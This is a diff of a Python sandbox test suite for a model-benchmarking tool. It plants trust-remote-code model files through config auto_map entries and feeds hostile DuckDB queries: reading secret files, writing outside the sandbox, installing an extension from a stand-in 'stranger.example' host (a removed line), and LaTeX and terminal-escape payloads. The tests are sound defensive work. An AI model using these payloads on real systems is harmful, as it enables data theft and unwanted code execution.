@@ -86,7 +86,7 @@ def pickled_shard(box: Sandbox, index: str) -> Commands:
     yield "apply", model, HALF, "--out", box.out / "pruned"
 
 
-@cases("pickles beside the weights, engine", "hf", "deepspeed")
+@cases("pickles beside the weights, engine", "deepspeed", "hf")
 def pickles_beside(box: Sandbox, engine: str) -> Commands:
     model = box.model()
     names = (
@@ -154,6 +154,36 @@ def escapes(box: Sandbox, where: str) -> Commands:
     yield calibrated(box, model)
 
 
+@cases("code of the model's own, type", "bert", "evil")
+def own_code(box: Sandbox, model_type: str) -> Commands:
+    """It stands in every place that transformers or sentence-transformers would take it from."""
+    model = benign.model(box.input / "model", {**benign.BERT, "model_type": "bert"})
+    names = ("configuration_evil.py", "modeling_evil.py", "tokenization_evil.py", "custom_generate/generate.py")
+    for name in names:
+        box.write(f"model/{name}", "open('MARKER', 'w')\nclass Evil:\n    pass\n")
+    code = dict.fromkeys(
+        ("AutoConfig", "AutoModel", "AutoModelForMaskedLM", "AutoFeatureExtractor"), "modeling_evil.Evil"
+    )
+    edit(model / "config.json", model_type=model_type, auto_map=code, _attn_implementation="evil/kernels")
+    pair = ["tokenization_evil.Evil", "tokenization_evil.Evil"]
+    # AutoTokenizer takes any name of transformers for a tokenizer's: an auto class would ask for consent to code.
+    edit(model / "tokenizer_config.json", tokenizer_class="AutoFeatureExtractor", auto_map={"AutoTokenizer": pair})
+    edit(model / "generation_config.json", custom_generate="custom_generate/generate.py")
+    edit(model / "preprocessor_config.json", auto_map=code, feature_extractor_type="Evil")
+    modules = [{"idx": 0, "name": "0", "path": "", "type": "modeling_evil.Transformer"}]
+    (model / "modules.json").write_text(json.dumps(modules))
+    pairs = [{"sentence1": f"cat {n}", "sentence2": "dog" * (n % 3 + 1), "score": n} for n in range(6)]
+    data = box.write("pairs.jsonl", "".join(json.dumps(pair) + "\n" for pair in pairs))
+    yield (*calibrated(box, model), "--family", "encoder")
+    yield "score", model, "--family", "encoder", "--task", "stsb_sts", "--data", f"path:{data}"
+    yield "measure", model, "--family", "encoder", "--engine", "hf", "--samples", 4, "--prompt", 8
+    yield "pack", model, "--out", box.out / "packed"
+    left = json.loads((box.out / "packed" / "sparsebench.json").read_text())["left_out"]
+    assert {"tokenizer_config.json: auto_map", "custom_generate/generate.py"} <= {*left} and not [
+        *box.out.rglob("*.py")
+    ]
+
+
 @cases(
     "modules of the model's folder", "torch numpy json duckdb yaml safetensors sitecustomize transformers sparsebench"
 )
@@ -167,35 +197,22 @@ def shadows(box: Sandbox, names: str) -> Commands:
 
 @cases(
     "SQL:",
-    "select content from read_text('SECRET')", "select content from read_blob('SECRET')", "from read_json('SECRET')",
-    "from read_csv('SECRET', header=false)", "from 'SECRET'", "from glob('OUTSIDE/*')", "from sniff_csv('SECRET')",
-    "copy (select 1) to 'MARKER'", "copy from database ledger to memory", "export database 'OUTSIDE/planted'",
-    "attach 'MARKER' as other", "install httpfs", "load '/usr/lib/hostile.duckdb_extension'",
-    "install hostile from 'http://stranger.example'", "set enable_external_access = true; from read_text('SECRET')",
-    "reset enable_external_access", "pragma enable_profiling = 'json'; pragma profiling_output = 'MARKER'; select 1",
-    "call enable_logging(storage = 'file', storage_path = 'OUTSIDE/planted')", "set log_query_path = 'MARKER'",
-    "set temp_directory = 'OUTSIDE/planted'", "create persistent secret s (type http, bearer_token 'x')",
-    "select getenv('HOME')", "from box", "delete from base.records", "select 1; drop view results",
-    "create or replace view results as select 1", "create temp view results as select 1; select * from results",
-    "select " + "(" * 10_000 + "1" + ")" * 10_000, "select '\0'", "select '\udcff'",
+    "select content from read_text('SECRET')", "copy (select 1) to 'MARKER'",
+    "call enable_logging(storage = 'file', storage_path = 'OUTSIDE/planted')", "from box",
+    "select " + "(" * 10_000 + "1" + ")" * 10_000, "select '\0'", "select '\udcff'", "select '\x1b[2J' as \"\x1b]0;x\x07\"",
+    names=["a secret", "a copy", "a log", "a variable of Python's", "nested", "'\\0'", "half of a character", "escapes"],
 )  # fmt: skip
 def query(box: Sandbox, sql: str) -> Commands:
     Ledger(box.out / "ledger.duckdb").ingest(benign.records(ROOT)[:2])
     yield "sql", "--file", box.write("query.sql", sql), "--ledger", box.out / "ledger.duckdb", "--timeout", 1
 
 
-@cases("SQL that is shown:", "select '\x1b[2J' as \"\x1b]0;x\x07\"")
-def shown(box: Sandbox, sql: str) -> Commands:
-    yield from query(box, sql)
-
-
 @cases(
     "a figure:",
     "select content as s, 1 as x, 2 as y from read_text('SECRET');",
-    "copy (select 1) to 'MARKER';",
-    "attach 'MARKER' as other; select 1 as x, 2 as y, 'a' as s;",
     "select range as x, 1 as y, 's' || range as s from range(5000);",
     "select 1 as x, 2 as y, '$\\frac{a$ \\input{SECRET}' as s;",
+    names=["a secret", "5,000 series", "mathtext"],
 )
 def figure(box: Sandbox, sql: str) -> Commands:
     ledger = box.out / "ledger.duckdb"
